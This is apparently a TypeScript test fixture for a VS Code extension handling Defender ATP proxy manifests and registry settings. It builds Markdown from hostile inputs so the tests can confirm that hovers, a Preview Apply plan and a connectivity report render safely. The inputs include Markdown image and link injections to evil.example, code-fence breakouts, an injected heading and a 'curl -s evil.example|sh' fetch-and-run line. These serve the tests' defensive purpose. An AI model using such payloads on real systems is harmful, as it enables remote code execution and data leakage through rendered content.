// The Markdown documents the product makes from hostile values (a manifest's allow entries and name, registry
// values, a proxy's answer and certificate), shared by the unit test (source) and the host test (rendered by VS Code).
import { buildPlan } from '../../../src/core/apply/plan';
import { hover } from '../../../src/core/language/hover';
import { accountConnectionsKey } from '../../../src/core/wininet/accounts';
import { encodeConnectionSettings, newConnectionSettings } from '../../../src/core/wininet/connectionSettings';
import { encodeManifestText } from '../../../src/core/wininet/fromManifest';
import { REG_BINARY } from '../../../src/core/wininet/regFile';
import { planMarkdown } from '../../../src/extension/apply/planMarkdown';
import { markdownReport } from '../../../src/extension/connectivity/markdownReport';
import { MemoryRegistry } from './memoryRegistry';

const EVIL = '![x](https://evil.example/p.png) <img src=https://evil.example/q.png> [l](https://evil.example/) www.evil.example `x`';

/** One document: where it is shown, its Markdown. */
export interface HostileDocument {
  where: string;
  markdown: string;
}

/** Hovers over hostile allow entries, Preview Apply of hostile registry values, the report of hostile answers. */
export async function hostileDocuments(): Promise<HostileDocument[]> {
  const docs: HostileDocument[] = [];
  for (const entry of [
    '![x](https://evil.example/p.png).atp.azure.com',
    '[x](https://evil.example/).atp.azure.com',
    '<img src=https://evil.example/p.png>.atp.azure.com',
    '*.![x](https://evil.example/p.png).atp.azure.com',
  ]) {
    const text = JSON.stringify({ version: 1, instance: '![i](https://evil.example/i.png)', region: 'europe', firewall: { port: 443, allow: [entry] } });
    const info = hover(text, text.indexOf(JSON.stringify(entry)) + 2);
    if (!info) throw new Error(`no hover for ${entry}`);
    docs.push({ where: `hover of ${entry}`, markdown: info.markdown });
  }
  const hostile = `\`${EVIL}\` \`\`\``;
  const reg = new MemoryRegistry();
  // What the machine holds now (the "before" column): anything a local user or a tool wrote there.
  reg.set(accountConnectionsKey('LocalSystem'), 'DefaultConnectionSettings', {
    type: REG_BINARY,
    data: encodeConnectionSettings(newConnectionSettings({ flags: 3, counter: 1, proxyServer: hostile, bypass: hostile, autoConfigUrl: hostile })),
  });
  const e = encodeManifestText(
    JSON.stringify({
      version: 1,
      instance: 'contoso',
      region: 'europe',
      proxy: { mode: 'static', server: 'proxy.contoso.com:8080' },
      registry: { source: 'manifest', targets: ['LocalSystem'] },
      firewall: { port: 443, allow: [] },
    }),
  );
  if (!e.ok) throw new Error(e.reason);
  const plan = await buildPlan(reg, {
    manifest: e.manifest,
    encoded: e.settings,
    backupDir: `/b/\`\`\`\n${EVIL}`,
    now: new Date('2026-11-30T12:00:00Z'),
    fileExists: () => false,
  });
  if (plan.refused || plan.skipped || !plan.writes.some((w) => w.previous))
    throw new Error(`the plan shows no previous value: ${plan.refused ?? plan.skipped ?? ''}`);
  docs.push({ where: 'Preview Apply', markdown: planMarkdown(plan, `${EVIL}.atpproxy.json`, `described ${hostile}\n\`\`\`\n${EVIL}`) });
  docs.push({
    where: 'connectivity report',
    markdown: markdownReport(
      {
        results: [
          {
            host: `${EVIL}.atp.azure.com`,
            port: 443,
            status: 'intercepted',
            ms: 5,
            via: `${EVIL}:8080`,
            issuer: `CN=${EVIL}`,
            detail: `proxy said ${EVIL}\n# injected heading`,
            kind: 'sensorApi',
          },
        ],
        cancelled: false,
        ms: 5,
      },
      `${EVIL}\ncurl -s evil.example|sh\n#.atpproxy.json`,
      new Date('2026-11-30T12:00:00Z'),
      `via ${EVIL}`,
    ),
  });
  return docs;
}
